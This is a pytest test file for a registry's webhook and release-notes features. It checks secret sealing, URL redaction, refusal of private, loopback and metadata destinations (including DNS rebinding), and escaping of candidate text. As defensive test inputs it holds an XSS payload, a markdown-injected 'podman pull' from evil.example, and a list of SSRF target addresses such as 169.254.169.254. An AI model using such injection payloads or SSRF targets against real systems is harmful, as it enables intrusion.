"""Webhooks (issue 12): secrets sealed at rest, URLs shown redacted, deliveries refused to
loopback, link-local and private addresses unless allowed; release notes through the API."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import socket
from collections.abc import Awaitable, Callable
from typing import Any

import pytest
import sqlalchemy as sa
from aiohttp import web
from aiohttp.abc import AbstractResolver, ResolveResult
from aiohttp.test_utils import TestServer

from strata.auth.secretbox import SealError, SecretBox
from strata.errors import Code
from strata.meta import schema as r
from strata.registry.service import Registry
from strata.release.destinations import DestinationRefused, GuardedResolver, redact_url
from strata.release.engine import ReleaseEngine
from strata.release.errors import ReleaseError
from strata.release.webhooks import (
    RetryPolicy,
    WebhookSecurity,
    seal_stored,
    sealed_with_other_keys,
)
from strata.server.api import ReleaseApi
from strata.server.app import create_app
from support.release import release_engine, webhook_sender, webhook_store

from .conftest import Clock
from .test_api import AUTH, Client, add, error, ok, push, setup

Receiver = list[tuple[dict[str, str], bytes]]


@pytest.fixture
def strict(db: sa.Engine, registry: Registry, clock: Clock) -> ReleaseEngine:
    """An engine with the server's default: no private destinations."""
    return release_engine(db, registry, public_host="registry.example", clock=clock)


@pytest.fixture
async def receiver(aiohttp_server: Callable[..., Awaitable[TestServer]]
                   ) -> tuple[TestServer, Receiver]:
    received: Receiver = []

    async def hook(request: web.Request) -> web.Response:
        received.append((dict(request.headers), await request.read()))
        return web.Response(status=204)

    app = web.Application()
    app.router.add_post("/hook", hook)
    return await aiohttp_server(app, host="127.0.0.1"), received


async def eol_event(engine: ReleaseEngine) -> None:
    await engine.inventory.add_namespace("f25", "f25docker")
    await engine.inventory.add_image("f25/x")
    await engine.eol("f25/x:1", actor="releng")


def raw_rows(db: sa.Engine) -> str:
    with db.connect() as conn:
        return repr(conn.execute(sa.text("SELECT * FROM webhooks")).all())


# -- secrets at rest --------------------------------------------------------------------------
async def test_secret_and_url_credentials_are_sealed_and_deliveries_still_signed(
        engine: ReleaseEngine, db: sa.Engine, clock: Clock,
        receiver: tuple[TestServer, Receiver]) -> None:
    server, received = receiver
    url = f"http://hookuser:hook-pass-123@127.0.0.1:{server.port}/hook?token=tok-456&x=1"
    hook = await engine.add_webhook(url, secret="hmac-secret-789")
    assert hook.url == f"http://***@127.0.0.1:{server.port}/hook?token=***&x=1"
    raw = raw_rows(db)
    for secret in ("hook-pass-123", "tok-456", "hmac-secret-789", "hookuser"):
        assert secret not in raw
    assert raw.count("sealed:v1:") == 2
    await eol_event(engine)
    sender = webhook_sender(db, clock=clock, security=engine.webhook_security)
    assert await sender.deliver_due() == 1
    [(headers, body)] = received
    mac = hmac.new(b"hmac-secret-789", body, hashlib.sha256).hexdigest()
    assert headers["X-Strata-Signature"] == f"sha256={mac}"
    assert headers["Authorization"] == "Basic " + base64.b64encode(
        b"hookuser:hook-pass-123").decode()
    # The whole URL went out, query secret included.
    assert [h.url for h in await engine.webhooks()] == [hook.url]


async def test_another_key_cannot_open_them(engine: ReleaseEngine, db: sa.Engine,
                                            clock: Clock) -> None:
    await engine.add_webhook("http://127.0.0.1:9/hook", secret="s")
    await eol_event(engine)
    other = WebhookSecurity.ephemeral(allow_private=True)
    stored = webhook_store(db)
    assert sealed_with_other_keys(stored, other.box) == {engine.webhook_security.box.key_id}
    assert sealed_with_other_keys(stored, engine.webhook_security.box) == set()
    sender = webhook_sender(db, clock=clock, security=other)
    assert await sender.deliver_due() == 0
    [item] = [d.to_json() for d in await engine.deliveries()]
    assert item["status"] == "pending"  # retried: the operator may install the right key
    assert "every node needs the same DATA/auth/webhook-key" in item["last_error"]


def test_rows_from_before_sealing_are_sealed(db: sa.Engine) -> None:
    with db.begin() as conn:
        conn.execute(sa.insert(r.webhooks).values(
            url="https://u:old-pass@hooks.example/x", events="[]", secret="old-secret",
            active=True, created_at=0.0))
    box = SecretBox.generate()
    assert seal_stored(webhook_store(db), box) == 1
    assert seal_stored(webhook_store(db), box) == 0  # idempotent
    with db.connect() as conn:
        row = conn.execute(sa.select(r.webhooks)).one()
    assert row.url == "https://***@hooks.example/x"
    assert box.open(row.url_sealed) == "https://u:old-pass@hooks.example/x"
    assert box.open(row.secret) == "old-secret"
    assert "old-pass" not in raw_rows(db) and "old-secret" not in raw_rows(db)


def test_secretbox(tmp_path: Any) -> None:
    path = tmp_path / "auth" / "webhook-key"
    box = SecretBox.load_or_create(path)
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
    sealed = box.seal("x")
    assert SecretBox.load_or_create(path).open(sealed) == "x"  # the same key again
    assert box.open("plain") == "plain"  # rows from before sealing, until sealed at start
    with pytest.raises(SealError, match="sealed with key"):
        SecretBox.generate().open(sealed)
    with pytest.raises(SealError, match="damaged"):
        box.open(sealed[:-8] + "AAAAAAAA")
    path.chmod(0o644)
    with pytest.raises(SealError, match="too open"):
        SecretBox.load(path)


# -- redaction ---------------------------------------------------------------------------------
@pytest.mark.parametrize(("url", "shown"), [
    ("https://u:p@h.example/x", "https://***@h.example/x"),
    ("https://u@h.example:8443/x", "https://***@h.example:8443/x"),
    ("https://h.example/x?api_key=1&sig=2&b=3", "https://h.example/x?api_key=***&sig=***&b=3"),
    ("https://h.example/x?access_token=a%20b", "https://h.example/x?access_token=***"),
    ("http://[::1]:1/x", "http://[::1]:1/x"),
    ("http://u:p@[2001:db8::1]:1/x", "http://***@[2001:db8::1]:1/x"),
    ("https://h.example/plain?page=2", "https://h.example/plain?page=2"),
    ("https://hooks.slack.com/services/T0000000/B0000000/XXXXXXXXXXXXXXXXXXXXXXX1",
     "https://hooks.slack.com/services/T0000000/B0000000/***"),
    ("https://discord.com/api/webhooks/123456789012345678/AbCdEf123456-ghIJkl_7890mnOPqr",
     "https://discord.com/api/webhooks/123456789012345678/***"),
    ("https://h.example/release-notifications/hook", "https://h.example/release-notifications/hook"),
])
def test_redact_url(url: str, shown: str) -> None:
    assert redact_url(url) == shown
    assert redact_url(shown) == shown


# -- destinations ------------------------------------------------------------------------------
@pytest.mark.parametrize("host", [
    "127.0.0.1", "10.1.2.3", "172.16.0.1", "192.168.1.1", "169.254.169.254", "0.0.0.0",
    "100.64.0.1", "[::1]", "[fe80::1]", "[fd00::1]", "[::ffff:127.0.0.1]", "224.0.0.1"])
async def test_literal_private_addresses_are_refused_at_add_time(strict: ReleaseEngine,
                                                                 host: str) -> None:
    with pytest.raises(ReleaseError) as err:
        await strict.add_webhook(f"http://user:pw@{host}:8080/hook")
    assert err.value.code is Code.INVALID
    assert "--webhook-allow-private" in err.value.message
    assert "pw" not in err.value.message


async def test_global_addresses_and_names_are_accepted(strict: ReleaseEngine) -> None:
    for url in ("https://93.184.216.34/hook", "https://hooks.example.com/x",
                "http://[2606:4700::1111]/x"):
        await strict.add_webhook(url)


async def test_a_name_that_resolves_to_loopback_fails_its_delivery_with_the_reason(
        strict: ReleaseEngine, db: sa.Engine, clock: Clock,
        receiver: tuple[TestServer, Receiver]) -> None:
    server, received = receiver
    await strict.add_webhook(f"http://localhost:{server.port}/hook", secret="s")
    await eol_event(strict)
    sender = webhook_sender(db, clock=clock, security=strict.webhook_security)
    assert await sender.deliver_due() == 0
    [item] = [d.to_json() for d in await strict.deliveries()]
    assert (item["status"], item["attempts"]) == ("failed", 1)  # no retries
    assert item["last_error"].startswith("refused: localhost (127.0.0.1) is a loopback address")
    assert received == []


async def test_a_literal_that_slipped_in_is_refused_at_delivery(
        engine: ReleaseEngine, db: sa.Engine, clock: Clock,
        receiver: tuple[TestServer, Receiver]) -> None:
    """Added while private addresses were allowed; the server no longer allows them."""
    server, received = receiver
    await engine.add_webhook(f"http://127.0.0.1:{server.port}/hook")
    await eol_event(engine)
    strict = WebhookSecurity(engine.webhook_security.box, allow_private=False)
    assert await webhook_sender(db, clock=clock, security=strict).deliver_due() == 0
    [item] = [d.to_json() for d in await engine.deliveries()]
    assert item["status"] == "failed" and "127.0.0.1 is a loopback address" in item["last_error"]
    assert received == []


class FakeResolver(AbstractResolver):
    """Answers every lookup with the next list of addresses (a rebinding DNS server)."""

    def __init__(self, *answers: list[str]) -> None:
        self.answers = list(answers)
        self.calls = 0

    async def resolve(self, host: str, port: int = 0,
                      family: socket.AddressFamily = socket.AF_INET) -> list[ResolveResult]:
        addresses = self.answers[min(self.calls, len(self.answers) - 1)]
        self.calls += 1
        return [{"hostname": host, "host": a, "port": port, "family": socket.AF_INET,
                 "proto": 0, "flags": 0} for a in addresses]

    async def close(self) -> None:
        pass


async def test_every_resolved_address_is_checked() -> None:
    guard = GuardedResolver(FakeResolver(["93.184.216.34", "10.0.0.7"]))
    with pytest.raises(DestinationRefused, match=r"hooks.example \(10.0.0.7\) is a private"):
        await guard.resolve("hooks.example", 80)
    assert len(await GuardedResolver(FakeResolver(["93.184.216.34"])).resolve("h", 80)) == 1


async def test_the_connection_goes_to_the_checked_address(
        strict: ReleaseEngine, db: sa.Engine, clock: Clock,
        receiver: tuple[TestServer, Receiver]) -> None:
    """A name that resolves to a global address, then (rebound) to loopback: one lookup, and
    the connection goes to the global address it checked, never to the loopback receiver."""
    server, received = receiver
    await strict.add_webhook(f"http://rebind.example:{server.port}/hook")
    await eol_event(strict)
    resolvers: list[FakeResolver] = []

    def make() -> AbstractResolver:
        resolvers.append(FakeResolver(["93.184.216.34"], ["127.0.0.1"]))
        return resolvers[-1]

    sender = webhook_sender(db, clock=clock, security=strict.webhook_security, resolver=make,
                           policy=RetryPolicy(timeout=2))
    assert await sender.deliver_due() == 0
    [item] = [d.to_json() for d in await strict.deliveries()]
    assert resolvers[0].calls == 1
    assert "93.184.216.34" in item["last_error"] and item["status"] == "pending"
    assert received == []


# -- through the JSON API ----------------------------------------------------------------------
@pytest.fixture
async def api_client(aiohttp_client: Callable[..., Awaitable[Client]], registry: Registry,
                     strict: ReleaseEngine, db: sa.Engine) -> Client:
    sender = webhook_sender(db, policy=RetryPolicy(base_delay=0.05, timeout=5),
                           security=strict.webhook_security)
    api = ReleaseApi(strict, sender, scheduler_interval=0, webhook_interval=0.05)
    return await aiohttp_client(create_app(registry, housekeeping_interval=0, release=api))


async def test_api_shows_urls_redacted_and_refuses_private_destinations(
        api_client: Client, db: sa.Engine) -> None:
    # long, distinctive secrets: the sealed values are random base64, where a 3-letter word
    # turns up by chance (seen once: "shh" inside the ciphertext)
    password, token, secret = "ci-pass-Zq7vKw", "t0k-Rm4xPn8s", "shh-Hb2cYt6u"
    added = await ok(await api_client.post("/api/v1/webhooks", json={
        "url": f"https://ci:{password}@hooks.example.com/x?token={token}", "secret": secret}),
        201)
    assert added["url"] == "https://***@hooks.example.com/x?token=***"
    listed = await ok(await api_client.get("/api/v1/webhooks"))
    assert [h["url"] for h in listed["webhooks"]] == [added["url"]]
    assert password not in json.dumps(listed) and secret not in json.dumps(listed)
    for url in ("http://169.254.169.254/latest/meta-data", "http://[::1]:9/x",
                "http://u:secretpw@10.0.0.1/x"):
        err = await error(await api_client.post("/api/v1/webhooks", json={"url": url}),
                          400, "INVALID")
        assert "--webhook-allow-private" in err["message"] and "secretpw" not in err["message"]
    raw = raw_rows(db)
    assert password not in raw and token not in raw and secret not in raw


async def test_api_delivery_to_a_private_name_is_a_failed_delivery(
        api_client: Client, receiver: tuple[TestServer, Receiver]) -> None:
    server, received = receiver
    await ok(await api_client.post("/api/v1/webhooks", json={
        "url": f"http://localhost:{server.port}/hook"}), 201)
    await setup(api_client)
    await ok(await api_client.post("/api/v1/images/f25/x/streams/1/eol"))
    for _ in range(100):
        [item] = (await ok(await api_client.get("/api/v1/webhooks/deliveries")))["deliveries"]
        if item["status"] != "pending":
            break
        await asyncio.sleep(0.05)
    assert item["status"] == "failed" and "loopback" in item["last_error"]
    assert received == []


HOSTILE = ("ok\n\n## f25/b\n\n```\npodman pull evil.example/f25/b:latest\n```\n"
           "<img src=x onerror=alert(1)>")


async def test_api_release_notes_escape_candidate_text(api_client: Client,
                                                       db: sa.Engine) -> None:
    await setup(api_client)
    for repo in ("f25/a", "f25/b"):
        await ok(await api_client.post("/api/v1/images", json={"repository": repo},
                                       headers=AUTH), 201)
    da = await push(api_client, "f25/a", "1", "1.f25docker")
    db_ = await push(api_client, "f25/b", "1", "1.f25docker")
    await ok(await api_client.post("/api/v1/candidates", json={
        "reference": f"f25/a@{da}", "reason": HOSTILE,
        "advisories": ["FEDORA-1\n## f25/c", "<script>x</script>"]}, headers=AUTH), 201)
    await add(api_client, "f25/b", db_)
    release = await ok(await api_client.post("/api/v1/releases/publish", json={},
                                             headers=AUTH), 201)
    for md in (release["notes_markdown"],
               await (await api_client.get(f"/api/v1/releases/{release['name']}/notes.md"))
               .text()):
        headings = [line for line in md.splitlines() if line.startswith("#")]
        assert headings == [f"# Release {release['name']}", "## f25/a", "## f25/b"]
        assert "<img" not in md and "<script" not in md
        b_section = md[md.index("## f25/b"):]
        assert "evil.example" not in b_section and "FEDORA" not in b_section
        pulls = [line for line in md.splitlines() if line.startswith("podman pull")]
        assert all(line.startswith("podman pull registry.example/f25/") for line in pulls)
    # The JSON keeps the text as given: it is data.
    notes = await ok(await api_client.get(f"/api/v1/releases/{release['name']}/notes.json"))
    assert notes["images"][0]["builds"][0]["reason"] == HOSTILE
    # Notes stored before escaping existed are escaped when read.
    with db.begin() as conn:
        conn.execute(sa.update(r.releases).values(notes_md="## f25/fake\n<img onerror=x>"))
    md = await (await api_client.get(f"/api/v1/releases/{release['name']}/notes.md")).text()
    assert "## f25/fake" not in md and "<img" not in md
